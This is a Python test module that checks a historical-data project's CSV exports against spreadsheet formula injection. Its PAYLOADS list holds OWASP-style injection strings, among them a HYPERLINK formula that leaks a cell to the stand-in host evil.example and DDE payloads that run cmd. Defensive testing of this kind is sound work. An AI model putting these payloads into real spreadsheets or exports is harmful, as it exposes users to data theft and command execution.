"""Every CSV the project writes opens in a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io

from hypothesis import given
from hypothesis import strategies as st
from shipped import shipped

from oppositions.changes import changes_in
from oppositions.csv_tables import FORMULA_STARTS, changes_csv, csv_bytes, safe_cell
from oppositions.export import data_bytes, export_graph

DATA = shipped()
# OWASP's examples of CSV injection, and the other starts spreadsheets read as formulas
PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]


@given(st.text(max_size=40))
def test_no_cell_starts_a_formula_and_nothing_else_changes(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == text or cell == "'" + text
    assert safe_cell(-5) == -5 and safe_cell(1937) == 1937  # numbers stay numbers


def test_hostile_names_notes_and_citations_go_out_inert_in_every_csv():
    persons = dict(DATA.persons)
    persons["sapronov"] = dataclasses.replace(persons["sapronov"], name=PAYLOADS[0], name_ru=PAYLOADS[3])
    sources = dict(DATA.sources)
    for source_id in list(sources)[:200]:
        sources[source_id] = dataclasses.replace(sources[source_id], citation=PAYLOADS[2])
    fates = tuple(dataclasses.replace(f, description=PAYLOADS[1], note=PAYLOADS[4]) if f.person == "sapronov" else f
                  for f in DATA.fates)
    hostile = dataclasses.replace(DATA, persons=persons, sources=sources, fates=fates)
    files = data_bytes(export_graph(hostile, 1937), "csv", hostile)
    files["changes"] = changes_csv(hostile, 1937)
    written = [c for content in files.values() for c in cells(content)]
    assert PAYLOADS[0] not in written and "'" + PAYLOADS[0] in written
    assert "'" + PAYLOADS[1] in cells(files["changes"])
    assert not [c for c in written if c.startswith(FORMULA_STARTS)]


def test_the_years_changes_file_holds_every_change_with_its_citations():
    rows = list(csv.DictReader(io.StringIO(changes_csv(DATA, 1937).decode("utf-8"))))
    assert len(rows) == len(changes_in(DATA, 1937))
    executed = [r for r in rows if r["change"] == "executed"]
    assert len(executed) >= 30 and all(r["sources"] and r["citations"] for r in executed)
    assert {r["certainty"] for r in rows} <= {"certain", "uncertain", "disputed"}
    smilga = [r for r in executed if r["person"] == "smilga"]
    assert smilga and smilga[0]["certainty"] == "disputed" and smilga[0]["note"]
    empty = changes_csv(DATA, 1900).decode("utf-8").splitlines()
    assert empty == ["year,person,name,change,date,date_as_read,what,faction,certainty,note,sources,citations"]


def test_csv_bytes_keeps_the_declared_columns_first():
    assert csv_bytes([{"b": 1, "a": 2}], ["a"]).decode().splitlines() == ["a,b", "2,1"]
